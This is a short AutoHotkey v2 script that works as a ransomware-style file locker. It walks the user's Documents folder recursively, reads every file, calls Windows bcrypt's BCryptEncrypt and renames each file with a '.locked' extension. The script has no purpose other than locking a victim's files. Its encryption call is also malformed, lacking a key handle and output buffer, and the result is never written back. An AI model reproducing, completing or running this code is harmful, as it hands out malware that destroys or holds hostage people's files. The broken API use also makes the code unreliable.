#Requires AutoHotkey v2.0
Loop Files, A_MyDocuments "\*.*", "R"
{
    data := FileRead(A_LoopFilePath, "RAW")
    DllCall("bcrypt\BCryptEncrypt", "ptr", data)
    FileMove A_LoopFilePath, A_LoopFilePath ".locked"
}
